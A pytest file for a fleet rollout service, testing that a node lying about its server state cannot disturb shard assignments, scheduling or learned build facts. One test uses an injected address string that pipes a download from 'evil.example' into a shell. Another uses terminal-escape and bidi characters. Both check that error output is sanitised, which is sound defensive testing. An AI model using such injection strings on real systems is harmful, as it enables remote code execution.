"""A node that lies about its server makes no other server change out of order."""

from typing import Any

import pytest

from eventstore import head
from rollout.delivery.commands import commands_of
from rollout.domain.errors import UnmanagedReplicaError
from rollout.messages import Action, Phase, ScratchLoad
from rollout.models import ShardMember
from rollout.process.advance import advance
from rollout.queries.learned import BuildFacts, build_facts, learned_document
from rollout.services.ignored_replicas import ignore_replica
from tests.recorded_fleet import installed, join, operation, start, upload
from tests.recorded_fleet import say as answer
from tests.recorded_shards import beat, master_of, member, replica_of, say

pytestmark = pytest.mark.django_db

ALL: dict[str, Any] = {"canary": 0, "max_parallel": "100%", "max_failures": "100%"}
CLUSTER: dict[str, Any] = {"cluster_enabled": True, "cluster_state": "ok", "migrations": ()}
GREET: dict[str, Any] = {"modules": [installed()]}
STATES = {
    "m": master_of("a:2", "a:3", addresses=("a:1",)),
    "r1": replica_of("a:1", addresses=("a:2",)),
    "r2": replica_of("a:1", addresses=("a:3",)),
}


@pytest.fixture
def shard():
    """A master with two replicas, and another node that lies."""
    upload()
    upload("other", content="c9")
    join(*STATES, "liar")
    say(*(beat(name, state) for name, state in STATES.items()))


def lie(state):
    """Let the liar say this, and let the time be over in which both shards of a node that moves count."""
    say(beat("liar", state))
    ShardMember.objects.update(former_shards={})


def test_it_claims_the_address_of_a_master(shard):
    lie(master_of(addresses=("a:1",)))
    say(beat("m", STATES["m"]), *(beat(name, STATES[name], **GREET) for name in ("r1", "r2")))
    first = start(nodes=("m",), careful=ALL)
    second = start(nodes=("r1",), module_name="other", careful=ALL)
    assert sorted((operation(first, "m").phase, operation(second, "r1").phase)) == ["queued", "scheduled"]


def test_it_claims_the_cluster_node_id_of_a_master():
    upload()
    join("m", "r", "liar")
    say(
        beat("m", master_of("a:2", addresses=("a:1",), node_id="1" * 40, replica_node_ids=("2" * 40,), **CLUSTER)),
        beat("r", replica_of("a:1", addresses=("a:2",), node_id="2" * 40, master_node_id="1" * 40, **CLUSTER)),
    )
    lie(master_of(addresses=("e:1",), node_id="1" * 40, **CLUSTER))
    assert member("m").shard == member("r").shard


def test_it_claims_two_unmanaged_replicas():
    upload()
    join("m", "liar")
    say(beat("m", master_of("u:1", "u:2", addresses=("a:1",))))
    say(beat("liar", replica_of("a:1", addresses=("u:1", "u:2")), **GREET))
    assert member("m").unmanaged == ["u:1", "u:2"]


def test_it_lists_a_stranger_between_a_master_and_its_replica():
    upload()
    join("m", "r", "a-liar")
    own = beat("m", master_of("x:1", addresses=("a:1",))), beat("r", replica_of("x:1", addresses=("a:2",)))
    say(*own)
    ignore_replica("x:1", reason="It is decommissioned.")
    say(beat("a-liar", master_of("x:1", addresses=("e:1",))))
    ShardMember.objects.update(former_shards={})
    assert member("m").replicas == ["r"]
    say(*own)
    uid = start(nodes=("m", "r"), careful=ALL)
    assert operation(uid, "m").phase != "queued"


def test_places_are_right_again_without_it(shard):
    before = {row.node: (row.shard, row.master, row.replicas) for row in ShardMember.objects.exclude(node="liar")}
    lie(master_of(addresses=("a:1", "a:2")))
    say(beat("liar", master_of(addresses=("e:1",))))
    assert before == {
        row.node: (row.shard, row.master, row.replicas) for row in ShardMember.objects.exclude(node="liar")
    }
    assert start(nodes=("m", "r1", "r2"), action=Action.INSTALL, careful=ALL)


def test_a_plan_quotes_no_command_that_it_has_written():
    upload()
    join("liar")
    say(beat("liar", master_of("x;curl${ifs}evil.example|sh;echo :1")))
    with pytest.raises(UnmanagedReplicaError) as refused:
        start(nodes=("liar",), careful=ALL)
    assert "`modfleet nodes ignore-replica ADDRESS --reason REASON`" in str(refused.value)
    assert "liar ('x;curl${ifs}evil.example|sh;echo :1')" in str(refused.value)


def test_a_plan_shows_the_beginning_of_what_is_no_address():
    upload()
    join("liar")
    say(beat("liar", master_of("Run this:\x1b[2J`id`\u202e" + "x" * 200 + ":1")))
    with pytest.raises(UnmanagedReplicaError) as refused:
        start(nodes=("liar",), careful=ALL)
    assert str(refused.value).isprintable()
    assert len(str(refused.value)) < 400


def test_another_reason_to_wait_at_each_heartbeat():
    upload()
    join("liar")
    uid = start(nodes=("liar",), careful=ALL, released=False)
    before = head()
    for number in range(20):
        say(beat("liar", master_of(loading=number % 2 == 0, backups=1)))
        advance(uid)
    assert head() - before < 6


def test_its_success_in_a_scratch_server_is_for_its_build_only():
    upload()
    upload("other", content="c9")
    join("liar", "n2")
    say(beat("liar"), beat("n2"))
    uid = start(nodes=("liar",), careful=ALL)
    answer(uid, "liar", Phase.VERIFYING, scratch=ScratchLoad(key="k" * 64))
    other = start(nodes=("n2",), module_name="other", careful=ALL)
    answer(other, "n2", Phase.VERIFYING, module_name="other", scratch=ScratchLoad(key="k" * 64))
    assert build_facts(["c9"])["c9"].keys == ("k" * 64,)


# --- What its scratch server has shown --------------------------------------------------------------------------------


def claims(*said):
    """The command that n3 gets after these nodes have reported this about the same build, in this order."""
    upload()
    names = [name for name, _ in said]
    join(*names, "n3")
    say(*(beat(name) for name in (*names, "n3")))
    uid = start(nodes=(*names, "n3"), careful=ALL)
    for name, scratch in said:
        answer(uid, name, Phase.VERIFYING, scratch=ScratchLoad(key="k" * 64, **scratch))
    row = operation(uid, "n3")
    ((_, command),) = commands_of([row])
    return command


def test_it_says_first_that_a_module_has_no_data_types():
    command = claims(("liar", {"has_types": False}), ("n2", {"has_types": True}))
    assert (command.has_types, command.has_types_from) == (True, "n2")


def test_it_says_that_a_module_has_data_types():
    command = claims(("n2", {"has_types": False}), ("liar", {"has_types": True}))
    assert (command.has_types, command.has_types_from) == (True, "liar")


def test_it_says_that_a_build_has_an_option():
    """An upgrade that loses it is refused by each node that knows it."""
    command = claims(("liar", {"options": ("greet.x", "greet.y")}), ("n2", {"options": ("greet.x",)}))
    assert command.options == ("greet.x",)


def test_it_says_that_a_module_writes_auxiliary_data():
    """A removal elsewhere names it."""
    facts = BuildFacts(aux_data=True, aux_data_from=("liar",))
    assert learned_document(["c1"], {"c1": facts})["in_words"][1].startswith("It writes auxiliary data, as liar says: ")
